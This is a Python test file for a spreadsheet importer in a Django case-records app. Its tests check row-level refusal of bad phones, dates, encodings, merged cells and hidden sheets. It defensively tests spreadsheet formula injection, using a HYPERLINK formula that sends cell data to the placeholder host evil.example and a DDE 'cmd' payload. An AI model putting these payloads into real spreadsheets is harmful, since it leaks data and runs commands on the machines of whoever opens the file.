"""Bad input in imported sheets: each case handled or refused with a clear, row-level message."""

import datetime

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from lifeline.people.models import Person
from lifeline.reports.importing import services
from lifeline.reports.importing.fields import CellError, check_formula_text, parse_date
from lifeline.reports.importing.reader import ReadError, read
from tests.reports.sheets import COLUMNS, HEADERS, ROWS, csv_bytes, xlsx_bytes

pytestmark = pytest.mark.usefixtures("evidence_dir")


def _problems(actor, data, name="cases.csv", columns=COLUMNS):
    batch = services.import_upload(actor=actor, data=data, filename=name)
    services.import_check(actor=actor, batch=batch, columns=columns)
    batch.refresh_from_db()
    return batch, {(p["row"], p["code"]) for p in batch.problems}


def _row(**values):
    row = dict(zip(HEADERS, ROWS[0], strict=True)) | {"电话": "", "微信": "", "护照号": ""}
    for key, value in values.items():
        row[key] = value
    return [row[h] for h in HEADERS]


def test_it_refuses_a_bad_phone_an_unknown_status_and_a_future_date_by_row(coordinator_a):
    tomorrow = (timezone.localdate() + datetime.timedelta(days=2)).isoformat()
    rows = [_row(电话="12"), _row(状态="on holiday"), _row(日期=tomorrow), _row(年龄="two hundred")]
    batch, codes = _problems(coordinator_a, csv_bytes(HEADERS, rows))
    assert {(2, "bad_phone"), (3, "unknown_status"), (4, "future_date"), (5, "bad_age")} <= codes
    assert batch.result["refused"] == 4 and not Person.objects.exists()
    for problem in batch.problems:  # the cell's value is never repeated back
        assert "on holiday" not in problem["message"] and "two hundred" not in problem["message"]


def test_it_refuses_a_formula_injection_cell_in_a_csv(coordinator_a):
    rows = [_row(备注='=HYPERLINK("http://evil.example/?"&A2,"click")'), _row(姓名="@SUM(1+1)")]
    batch, codes = _problems(coordinator_a, csv_bytes(HEADERS, rows))
    assert {(2, "formula"), (3, "formula")} <= codes


def test_a_phone_with_a_plus_is_not_a_formula():
    check_formula_text("+66 81 234 5678")
    with pytest.raises(CellError):
        check_formula_text("+cmd|' /C calc'!A0")
    with pytest.raises(CellError):
        check_formula_text("-2+3")


def test_it_reads_excel_dates_as_dates_and_serials_as_dates():
    assert parse_date(datetime.date(2025, 11, 2)) == datetime.date(2025, 11, 2)
    assert parse_date(45963) == datetime.date(2025, 11, 2)
    assert parse_date("45963") == datetime.date(2025, 11, 2)
    assert parse_date("02/11/2025") == datetime.date(2025, 11, 2)
    assert parse_date("2025年11月2日") == datetime.date(2025, 11, 2)


def test_xlsx_formulas_are_refused_by_row_merged_cells_and_hidden_sheets_are_said(coordinator_a):
    def build(book, sheet):
        sheet["J2"] = "=A2&B2"  # 备注 of row 2 is a formula
        sheet.merge_cells("G3:G4")  # 地点 merged over rows 3 and 4
        hidden = book.create_sheet("Old cases")
        hidden.append(HEADERS)
        hidden.sheet_state = "hidden"

    rows = [ROWS[0], _row(姓名="李娜", 地点="KK Park"), _row(姓名="王芳")]
    batch, codes = _problems(coordinator_a, xlsx_bytes(HEADERS, rows, build=build), name="c.xlsx")
    assert (2, "formula") in codes and (4, "merged") in codes
    assert any("Old cases" in notice for notice in batch.notices)
    assert any("merged" in notice for notice in batch.notices)
    assert batch.result["refused"] == 1  # the merged cell only warns


def test_mixed_scripts_in_one_cell_are_several_names(coordinator_a):
    rows = [_row(姓名="张伟 / Zhang Wei / ចាង វៃ")]
    batch, codes = _problems(coordinator_a, csv_bytes(HEADERS, rows))
    assert batch.result["refused"] == 0, batch.problems


def test_a_wrong_encoding_is_detected_and_can_be_chosen(coordinator_a):
    data = csv_bytes(encoding="gb18030", rows=[r for r in ROWS if r[0] == "张伟"])
    batch = services.import_upload(actor=coordinator_a, data=data, filename="gbk.csv")
    assert batch.encoding == "gb18030" and any("GB18030" in n for n in batch.notices)
    assert "姓名" in batch.headers
    with pytest.raises(ValidationError) as refused:
        services.import_check(actor=coordinator_a, batch=batch, columns=COLUMNS, encoding="utf-8")
    assert "does not read as UTF-8" in str(refused.value)


def test_a_file_that_is_no_spreadsheet_is_refused_whole(coordinator_a):
    with pytest.raises(ReadError):
        read(b"\x00\x01\x02binary", filename="x.csv")
    with pytest.raises(ReadError):
        read(b"not a zip", filename="cases.xlsx")
    with pytest.raises(ValidationError):
        services.import_upload(actor=coordinator_a, data=b"", filename="empty.csv")


def test_a_mapping_without_names_or_with_unknown_fields_is_refused(coordinator_a):
    batch = services.import_upload(actor=coordinator_a, data=csv_bytes(), filename="c.csv")
    for columns in (
        COLUMNS | {"姓名": "", "Name (EN)": ""},
        COLUMNS | {"年龄": "salary"},
        COLUMNS | {"地点": "status"},
    ):
        with pytest.raises(ValidationError):
            services.import_check(actor=coordinator_a, batch=batch, columns=columns)
